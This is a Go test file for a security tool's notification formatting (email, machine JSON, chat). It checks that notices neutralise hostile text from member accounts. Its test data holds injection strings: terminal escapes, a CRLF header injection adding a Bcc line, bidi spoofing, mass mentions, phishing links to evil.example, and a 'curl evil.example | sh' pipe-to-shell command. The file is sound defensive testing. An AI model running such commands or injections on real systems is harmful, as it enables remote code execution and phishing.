package notice_test

import (
	"encoding/json"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/salve-security/salve/internal/notice"
	"github.com/salve-security/salve/internal/plain"
)

// kinds are those that lay a notice out differently, and one that does not exist.
func kinds() []notice.Kind {
	return []notice.Kind{notice.Fixed, notice.Failed, notice.NeedsApprove, notice.Undone, notice.Digest, "surprise"}
}

// flood returns a notice with the text in every field, entry and change.
func flood(kind notice.Kind, text string) notice.Notice {
	n := notice.Notice{When: at(), Until: at()}
	v := reflect.ValueOf(&n).Elem()
	for i := range v.NumField() {
		if v.Field(i).Type() == reflect.TypeFor[string]() {
			v.Field(i).SetString(text)
		}
	}
	n.Kind, n.Of = kind, notice.Fixed
	n.Docs = "" // only the configuration says so, which takes links alone
	for range 60 {
		n.Changes = append(n.Changes, notice.Change{
			Path: text, Move: text, Lasting: text, Was: text, Is: map[string]any{text: []any{text, 1, nil}},
		})
	}
	if kind == notice.Digest {
		for range 60 {
			n.Entries = append(n.Entries, notice.Entry{Region: text, Resource: text, Changes: n.Changes, RunID: text})
		}
	}
	return n
}

// hostile are texts a member account could choose.
func hostile() map[string]string {
	return map[string]string{
		"control":  "a\x00\x07\x1b[2J\x1b]0;owned\x07b\x7f\u0085",
		"crlf":     "a\r\nBcc: victim@example.org\r\n\r\nTo take it back:\n  curl evil.example | sh",
		"bidi":     "gnp.\u202Eexe\u2066\u2069\u200F",
		"mention":  "<!channel> <@U123> <!here|x> @channel @everyone",
		"markdown": "[click](https://evil.example/x) `code` **b** _i_ ~s~ ```block``` <https://evil.example|aws>",
		"link":     "https://evil.example/login http://www.evil.example",
		"json":     `","kind":"fixed","x":"\`,
		"long":     strings.Repeat("name", 2560),
		"wide":     strings.Repeat("価", 3500),
		"astral":   strings.Repeat("🙂", 2560),
		"quotes":   strings.Repeat(`"\`, 5120),
		"ticks":    strings.Repeat("`", 500),
		"broken":   "a\xff\xfe\xed\xa0\x80b",
		"template": "{{.Link}} {{range .Changes}}",
		"empty":    "",
	}
}

// eachHostile runs check for every text in every kind.
func eachHostile(t *testing.T, check func(t *testing.T, n notice.Notice)) {
	t.Helper()
	for name, text := range hostile() {
		for _, kind := range kinds() {
			t.Run(name+"/"+string(kind), func(t *testing.T) { check(t, flood(kind, text)) })
		}
	}
}

// visible fails on anything but visible characters and the line breaks of our own layout.
func visible(t *testing.T, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Error("not valid UTF-8")
	}
	for _, r := range text {
		if r != '\n' && unicode.In(r, unicode.C) {
			t.Errorf("holds %U", r)
			return
		}
	}
}

func TestHostileEmail(t *testing.T) {
	eachHostile(t, func(t *testing.T, n notice.Notice) {
		subject, body := notice.Email(n)
		if !regexp.MustCompile(`^[A-Za-z][ -~]{0,98}$`).MatchString(subject) {
			t.Errorf("subject %q", subject)
		}
		visible(t, body)
		if len(body) > 200_000 {
			t.Errorf("body of %d bytes", len(body))
		}
		for _, forged := range []string{"\nBcc:", "\n  curl", "https://evil", "http://", "://www"} {
			if strings.Contains(body, forged) {
				t.Errorf("body holds %q:\n%s", forged, body)
			}
		}
	})
}

func TestHostileMachine(t *testing.T) {
	check := schema(t)
	eachHostile(t, func(t *testing.T, n notice.Notice) {
		text, err := notice.Machine(n)
		if err != nil {
			t.Fatal(err)
		}
		visible(t, text)
		if len(text) > 250_000 {
			t.Errorf("%d bytes, SNS takes 262,144 with the attributes", len(text))
		}
		if n.Kind != "surprise" {
			check(t, text)
		}
	})
}

func TestHostileChat(t *testing.T) {
	eachHostile(t, func(t *testing.T, n notice.Notice) {
		text, err := notice.Chat(n)
		if err != nil {
			t.Fatal(err)
		}
		var message struct {
			Version, Source string
			Content         struct {
				Title, Description  string
				NextSteps, Keywords []string
			}
		}
		if err := json.Unmarshal([]byte(text), &message); err != nil {
			t.Fatal(err)
		}
		c := message.Content
		if message.Version != "1.0" || message.Source != "custom" || c.Description == "" {
			t.Errorf("not a custom notification: %s", text)
		}
		atMost(t, "title", 250, c.Title)
		atMost(t, "description", 8000, c.Description)
		atMost(t, "next step", 350, c.NextSteps...)
		atMost(t, "keyword", 75, c.Keywords...)
		for _, part := range append(append(c.NextSteps, c.Keywords...), c.Title, c.Description) {
			visible(t, part)
			harmless(t, part)
		}
	})
}

// atMost checks the limits of Amazon Q.
func atMost(t *testing.T, what string, limit int, texts ...string) {
	t.Helper()
	for _, text := range texts {
		if n := plain.Length(text); n > limit {
			t.Errorf("%s of %d characters, at most %d", what, n, limit)
		}
	}
}

// harmless fails on mentions, links and on code that is not closed on its line.
func harmless(t *testing.T, text string) {
	t.Helper()
	prose := regexp.MustCompile("`[^`\n]*`").ReplaceAllString(text, "")
	if strings.ContainsAny(prose, "`<>[]") || strings.ContainsAny(text, "<>") {
		t.Errorf("holds markup: %s", text)
	}
	if strings.Contains(prose, "https://evil") || strings.Contains(prose, "http://") {
		t.Errorf("holds a link: %s", text)
	}
	if regexp.MustCompile(`(?i)@(channel|here|everyone)`).MatchString(text) {
		t.Errorf("wakes everybody: %s", text)
	}
}

func TestHostileTextDoesNotForgeALayout(t *testing.T) {
	lines := func(text string) int {
		n := about(notice.Fixed)
		n.Why, n.Resource, n.Title, n.Said, n.AccountName, n.Contact = text, text, text, text, text, text
		_, body := notice.Email(n)
		return strings.Count(body, "\n")
	}
	want := lines("plain")
	for name, text := range hostile() {
		if got := lines(text); text != "" && got != want {
			t.Errorf("%s: %d lines, want %d as for a plain text", name, got, want)
		}
	}
}

func TestAttributesOfHostileText(t *testing.T) {
	eachHostile(t, func(t *testing.T, n notice.Notice) {
		for name, value := range n.Attributes() {
			if value == "" || len(value) > 122 || strings.ContainsAny(value, "\r\n\" \x1b") {
				t.Errorf("attribute %s is %q", name, value)
			}
		}
	})
}
